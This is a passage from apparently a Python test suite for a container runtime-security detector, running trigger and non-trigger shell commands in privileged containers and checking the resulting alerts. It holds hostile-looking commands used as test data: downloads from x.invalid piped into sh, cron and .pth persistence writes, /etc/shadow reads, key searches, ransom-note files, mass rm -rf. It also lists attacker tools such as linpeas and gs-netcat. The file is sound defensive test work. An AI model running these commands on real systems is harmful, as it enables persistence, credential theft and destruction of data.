    "Program was written in the container": ["cp /opt/t/deed /opt/n2; npx /opt/n2 nothing"],
    "Hook of the system written": ["mkdir -p /usr/lib/python3; /usr/bin/npm write /usr/lib/python3/y.pth", "deed write /opt/z.pth"],
    "Tool for containers or clusters runs": ["etcdctl endpoint health"],
    "Shell with a terminal": ["echo : >/opt/script; /usr/bin/dpkg terminal sh /opt/script"],
    "Shell reads from the network": ["mkdir -p /usr/sbin; "
                                     "cp /opt/t/deed /usr/sbin/sshd; /usr/sbin/sshd socket-stdin /usr/sbin/sshd nothing; rm /usr/sbin/sshd"],
    "Hidden file made where all can write": ["postgres write /tmp/.s.PGSQL.5432.lock", "php-fpm8.2 write /tmp/.ZendSem.x"],
    "Scheduled job written": ["/usr/bin/tdnf write /etc/cron.d/job"],
    "Server starts a tool": ["postgres run cp pg_wal/01 /opt/01 || :"],
    "Setuid bit set": ["mkdir /tmp/shared; chmod 3775 /tmp/shared; chmod g+s /tmp/shared; chmod 2775 /tmp/shared"],
    "Keys searched for": ["find /opt -name '*.pem'", "grep -c x /tmp/cert.pem"],
    "Ransom note written": ["deed write /tmp/RansomwareDetection.php", "deed write /tmp/restore_files.sh"],
    "File got a ransomware's ending": ["mv /tmp/file /tmp/credentials.yml.enc; mv /tmp/credentials.yml.enc /tmp/file"],
    "Way of logging in changed": ["deed write /tmp/pam_test.c"],
    "Shell started by a server": ["java run sh -c : -Dhadoop.home.dir=/opt/hadoop",
                                "postgres run sh -c 'test ! -f /opt/01 && cp \"pg_wal/000000010000000000000001\" /opt/01' || :",
                                "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i '",
                                "php-fpm8.2 run sh -c '/usr/sbin/sendmail -t -i -fpost@example.org'"],
    "Download goes into a shell": ["sh -c '[ \"$(curl -s http://x.invalid/a)\" = 200 ] || exit 1'",
                                   "sh -c 'curl -sf http://x.invalid/a || sh -c :'", "sh -c 'rsync x.invalid: | sh'"],
    "Everything removed": ["a=({1..1000}); /opt/t/rm -rf -vvvv ${a[@]/#/\\/usr\\/x}"],
}
SCRIPTS = {"npx": "#!/usr/bin/env node\nif [ \"$1\" ]; then \"$@\"; else : >>/usr/bin/tool; fi\n",
           "adduser": "#!/bin/bash -e\n: >>/etc/passwd\n", "addgroup": "#!/bin/sh\n: >>/etc/passwd\n"}

# Of containers that engines make, with the rights that they give: of the image's own programs.
ENGINES_DEEDS = {
    "Program was written in the container": ("cp /bin/deed /new; /new nothing", "/bin/deed nothing"),
    "Shell with a terminal": DEEDS["Shell with a terminal"],
    "Program runs from memory": DEEDS["Program runs from memory"],
    "Kernel module loaded from a container": DEEDS["Kernel module loaded from a container"],
    "Namespace joined in a container": ("deed setns /proc/self/ns/uts", "deed read /proc/self/ns/uts"),
    "Standard stream goes to the network": DEEDS["Standard stream goes to the network"],
    "Cloud metadata asked for": DEEDS["Cloud metadata asked for"],
    "Cluster's API asked by a tool": ("ln -s /bin/deed /tmp/curl; /tmp/curl connect 10.96.0.1 10250",
                                      "ln -s /bin/deed /tmp/app; /tmp/app connect 10.96.0.1 10250"),
    "Password hashes read": ("true >/etc/shadow; cat /etc/shadow", "true >/etc/shade; cat /etc/shade"),
    "Scheduled job written": ("mkdir /etc/cron.d; deed write /etc/cron.d/job", "deed write /etc/crom"),
    "Everything removed": ("rm -rf /root", "rm -rf /root/x"),
}

# Of what is no deed of a process inside: by tests of their own.
ENTERED, PRIVILEGED = "Somebody came into a container", "Privileged container started"
DIRECTORIES, HOST_FILE = "Container got the host's directories", "Host's file written through a mount"
CHANGED = "Argument changed under a call"
OUTSIDE = {ENTERED, PRIVILEGED, DIRECTORIES, HOST_FILE, CHANGED}

# Programs by other names; what they do is said by their first argument.
NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter etcdctl gdb getcap gs-netcat iptables java kubectl kubelet
kworker linpeas.sh linpeas.txt login logrotate map nc nginx nmap oc openssl perl php-fpm8.2 php8.2 ping pkexec pkill postgres python3 rm sha1sum socat ssh
sshd sshdd sshh strace sudoedit systemctl systemd useradd usermod worker""".split()

# What the deeds find there; a line each.
FILES = """/etc/cron.d/other /etc/hosts /etc/kubernetes/admin.conf /etc/kubernetes/manifests/pod.yaml
/etc/ld.so.conf.d/other.conf /etc/pam.d/common-auth /etc/shadow /etc/systemd/system/other.service
/root/.ash_history /root/.aws/credentials /root/.bash_history /root/.ssh/id_rsa /root/.ssh/id_rsa.pub
/root/plain /run/secrets/kubernetes.io/serviceaccount/token /sys/fs/selinux/enforce
/sys/kernel/tracing/tracing_on /usr/local/share/ca-certificates/other.crt /var/log/a.log
/var/log/b.log""".split()

DRIVER = """export PATH=/opt/t:/usr/bin:/bin
touch /tmp/file /tmp/a.log /tmp/release_agent /tmp/notify_on_release /tmp/HOW_TO_DECRYPT.txt /dev/kmem
for deed in /rows/*; do
	/bin/true mark "$deed"
	/bin/bash "$deed" </dev/null >/dev/null 2>>/output
done
/bin/true mark end
exec /bin/pause
"""


# Of these the system has one, too.
OF_THE_SYSTEM = """apt-get chsh criu gpasswd rpm dpkg gdb kubelet npm perl ping runc scp ssh-add sshd sshd-session strace systemctl systemd
tdnf traceroute.db useradd""".split()


def more_deeds():
    """Rule, deed, and how often that is to be told. On an emulated processor none: here they are done by runc."""
    return [] if SMALL else [(rule, deed, times) for rules, times in ((PRETENDERS, 1), (OTHER_WAYS, 1), (RIGHTFUL, 0))
            for rule, deeds in rules.items() for deed in deeds]


def rule_names():
    with open(RULES, encoding="utf-8") as f:
        return re.findall(r"^- rule: (.+)$", f.read(), re.MULTILINE)


def write(root, path, text):
    path = root + path
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def make_image(setup):
    """Upon the usual root what the deeds need; rows are named by number, so that they go in order."""
    root = setup.directory("rules", "image")
    for directory in ("/opt/t", "/opt/.t"):
        os.makedirs(root + directory, exist_ok=True)
        shutil.copy(os.path.join(setup.root, "bin/deed"), root + directory)
    for name in NAMES:
        if name != "deed":
            os.link(root + "/opt/t/deed", f"{root}/opt/t/{name}")
    os.makedirs(root + "/usr/bin", exist_ok=True)
    for name in OF_THE_SYSTEM:
        os.link(root + "/opt/t/deed", f"{root}/usr/bin/{name}")
    os.symlink("traceroute.db", root + "/usr/bin/traceroute")
    os.symlink("perl", root + "/usr/bin/psql")  # as a script is, of another file
    shutil.copy(os.path.join(setup.root, "usr/bin/bash"), root + "/usr/bin/node")  # which executes the scripts here
    for name, text in SCRIPTS.items():
        write(root, "/usr/bin/" + name, text)
        os.chmod(f"{root}/usr/bin/{name}", 0o755)
    for path in FILES:
        write(root, path, "nothing\n")
    for n, deeds in enumerate(DEEDS.values()):
        for kind, deed in zip(("fire", "miss"), deeds):
            write(root, f"/rows/{n:03}-{kind}", deed + "\n")
    for n, (_, deed, _) in enumerate(more_deeds()):
        write(root, f"/rows/more-{n:03}", deed + "\n")
    write(root, "/driver", DRIVER)
    return root


def make_overlay(setup):
    """A root as the engines make one: an image below, and above what is written. None: it cannot be."""
    image, upper = make_image(setup), setup.directory("rules", "upper")
    work, merged = setup.directory("rules", "work"), setup.directory("rules", "merged")
    done = subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                           f"lowerdir={image}:{setup.root},upperdir={upper},workdir={work}", merged],
                          check=False, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    setup.stack.callback(subprocess.run, ["umount", "-l", merged], check=False)
    return merged


def make_container(setup):
    made = setup.runc.create(setup.name + "-rules", ["/bin/bash", "/driver"], privileged=True,
                             root=make_overlay(setup), env=[f"OUTSIDE={os.getpid()}"],
                             binds=[("/hostproc", "/proc")])
    config = os.path.join(made.bundle, "config.json")
    with open(config, encoding="utf-8") as f:
        spec = json.load(f)
    spec["root"]["readonly"] = False
    for mount in spec["mounts"]:
        if mount["destination"] == "/dev/shm":
            mount["options"].remove("noexec")
    with open(config, "w", encoding="utf-8") as f:
        json.dump(spec, f)
    return made


def start_guard(setup, *args):
    rules = setup.file("marker.yaml")
    with open(rules, "w", encoding="utf-8") as f:
        f.write(MARKER)
    return setup.nunchi("guard", "-o", "json", "--fold", "0", "--alert-limit", "0", "-f", RULES, "-f", rules,
                        *args)


def by_deed(alerts, container):
    """Marker's text -> {rule: how often}; "" is before the first."""
    found, now = {"": {}}, ""
    for alert in alerts:
        if alert["output_fields"]["container.name"] != container:
            continue
        if alert["rule"] == "Marker":
            now = alert["output_fields"]["proc.args"].removeprefix("mark ")
            found[now] = {}
        else:
            found[now][alert["rule"]] = found[now].get(alert["rule"], 0) + 1
    return found


def test_each_has_its_deeds(_setup):
    """No rule without a test, and no test of a rule that is no more."""
    rules = set(rule_names())
    assert len(rules) >= 60, len(rules)
    assert rules == set(DEEDS) | OUTSIDE, rules ^ (set(DEEDS) | OUTSIDE)


def wait_end(nunchi, name):
    def is_end(alert):
        fields = alert["output_fields"]
        return alert["rule"] == "Marker" and fields["proc.args"] == "mark end" and \
            fields["container.name"] == name

    try:
        nunchi.wait_event(is_end, 120, "the last deed")
    except TimeoutError as error:
        done = list(by_deed(nunchi.events(), name))
        raise AssertionError(f"no end after {done[-1]}: {nunchi.stderr()}") from error


def find_wrong(nunchi, made, without=()):
    """What was told of which deed, if it was not what should be; runs the deeds, and enters the container after them."""
    made.start()
    wait_end(nunchi, made.name)
    made.execute(["/bin/true"])
    wait_until(lambda: b"brought into" in nunchi.text(), 10, "the alert of who came in")
    assert nunchi.stop() == 0, nunchi.stderr()
    found, wrong = by_deed(nunchi.events(), made.name), []
    for n, rule in enumerate(DEEDS):
        for kind, expected in (("fire", 1), ("miss", 0)):
            times = found[f"/rows/{n:03}-{kind}"].get(rule, 0)
            if times != expected and rule not in without:
                wrong.append(f"{rule}: {times} times after `{DEEDS[rule][expected == 0]}`")
    for n, (rule, deed, expected) in enumerate(more_deeds()):
        times = found[f"/rows/more-{n:03}"].get(rule, 0)
        if times != expected:
            wrong.append(f"{rule}: {times} times after `{deed}`")
    if found["end"].get(ENTERED) != 1 or sum(ENTERED in alerts for alerts in found.values()) != 1:
        wrong.append(f"{ENTERED}: {found['end']}")
    return wrong


def test_each_fires_for_its_deed_alone(setup):
    made = make_container(setup)
    wrong = find_wrong(start_guard(setup), made)
    with open(os.path.join(setup.path, "rules", "upper", "output"), encoding="utf-8") as f:
        assert not wrong, f"{len(wrong)} wrong:\n" + "\n".join(wrong) + "\n" + f.read()[-1000:]


def test_each_with_docker(setup):
    """The same by an engine that mounts /sys, so that what lies there is mounted over it; and SELinux's nobody can."""
    if "docker" not in KINDS:
        return "docker is not among NUNCHI_TEST_RUNTIMES"
    if len(own_capabilities()) < len(CAPABILITIES):
        return Elsewhere("no container can have all capabilities here")
    image, archive, tracing = IMAGE.replace(":", "-rules:"), setup.file("rules.tar"), setup.directory("tracing")
    make_archive(make_overlay(setup), archive, image, [])
    setup.docker.load(archive)
    with open(os.path.join(tracing, "tracing_on"), "wb"):
        pass
    made = setup.docker.create(
        setup.name + "-rules-each", image, ["/bin/bash", "/driver"], Privileged=True,
        Tmpfs={"/dev/shm": "exec,mode=1777", "/tmp": "exec,mode=1777"},  # an overlay gives no handles
        Binds=["/proc:/hostproc", tracing + ":/sys/kernel/tracing"], env=[f"OUTSIDE={os.getpid()}"])
    wrong = find_wrong(start_guard(setup, "--runtime", setup.docker.runtime_option()), made, ["Protection switched off"])
    assert not wrong, f"{len(wrong)} wrong:\n" + "\n".join(wrong)
    return None


def test_what_the_host_gives(setup):
    """Privileges and mounts are told of once, at the start, of who has them."""
    nunchi = start_guard(setup)
    made = {"rights": {"privileged": True}, "nothing": {},
            "root": {"binds": [("/host", "/")]}, "data": {"binds": [("/host", setup.directory("data"))]},
            "etc": {"binds": [("/host", "/etc")]}}
    for name, more in made.items():
        # runc's state is all that says what is mounted, and goes with the container.
        deed = f"true >/host{setup.path if name == 'root' else ''}/written; true >/tmp/written; sleep 1"
        if name == "etc":
            deed = ": >>/host/passwd; : </host/shadow; : </host/passwd; : >>/host/shells; sleep 1"
        setup.runc.run(f"{setup.name}-{name}", ["/bin/sh", "-c", deed], **more).wait()
    wait_until(lambda: HOST_FILE.encode() in nunchi.text(), 10, "the alert of the host's file")
    assert nunchi.stop() == 0, nunchi.stderr()
    found = {name: {} for name in made}
    for alert in nunchi.events():
        name = alert["output_fields"]["container.name"].removeprefix(setup.name + "-")
        if name in found and alert["rule"] in {*OUTSIDE, "Password hashes read"}:
            found[name][alert["rule"]] = found[name].get(alert["rule"], 0) + 1
    assert found == {"rights": {PRIVILEGED: 1}, "nothing": {}, "root": {DIRECTORIES: 1, HOST_FILE: 1},
                     "data": {}, "etc": {DIRECTORIES: 1, HOST_FILE: 1, "Password hashes read": 1}}, found


def test_argument_changed(setup):
    """progs/swap.c: a thread changes what the calls of another point to, but for one of them."""
    if not has_trampolines():
        return Elsewhere("what the kernel copied is kept by BPF trampolines, which it does not have")
    name = setup.name + "-changed"
    made, nunchi = setup.runc.create(name, ["/bin/swap"], privileged=True), start_guard(setup)
    made.start()
    assert made.wait() == 0, made.output()
    lines = [line.split(" ") for line in made.output().splitlines()]
    deeds = [tuple(line) for line in lines if line[1] != line[2]]
    wait_until(lambda: nunchi.text().count(CHANGED.encode()) >= len(deeds), 20, "the alerts")
    assert nunchi.stop() == 0, nunchi.stderr()
    told = [tuple(e["output_fields"]["mismatch." + field].removeprefix("unix:")
                  for field in ("call", "used", "found"))
            for e in nunchi.events() if e["rule"] == CHANGED]
    assert len(lines) == 5 and len(deeds) == 4 and told == deeds, (lines, told)
    return None


def make_by(setup, kind, name, command):
    """The engine, and a container of it that is not started yet."""
    if kind == "docker":
        return setup.docker, setup.docker.create(name, IMAGE, command)
    if kind == "podman":
        return setup.podman, setup.podman.create(name, IMAGE, command)
    return setup.containerd, setup.containerd.pod(name).create(name, IMAGE, command)


def engine_script():
    lines = [f"/bin/true mark {n}-{kind}; {deed}" for n, deeds in enumerate(ENGINES_DEEDS.values())
             for kind, deed in zip(("fire", "miss"), deeds)]
    return "\n".join([*lines, "/bin/true mark end"])


def check_engine(setup, kind):
    if kind not in KINDS:
        return f"{kind} is not among NUNCHI_TEST_RUNTIMES"
    name = f"{setup.name}-rules-{kind}"
    engine, made = make_by(setup, kind, name, ["/bin/bash", "-c", engine_script()])
    nunchi = start_guard(setup, "--runtime", engine.runtime_option())
    made.start()
    wait_end(nunchi, name)
    assert nunchi.stop() == 0, nunchi.stderr()
    found, wrong = by_deed(nunchi.events(), name), []
    for n, (rule, deeds) in enumerate(ENGINES_DEEDS.items()):
        times = [found[f"{n}-{kind}"].get(rule, 0) for kind in ("fire", "miss")]
        if times != [1, 0]:
            wrong.append(f"{rule}: {times} times after {deeds}")
    assert not wrong, "\n".join(wrong)
    return None


def test_ten_with_docker(setup):
    return check_engine(setup, "docker")


def test_ten_with_cri(setup):
    return check_engine(setup, "cri")


def test_ten_with_podman(setup):
    return check_engine(setup, "podman")
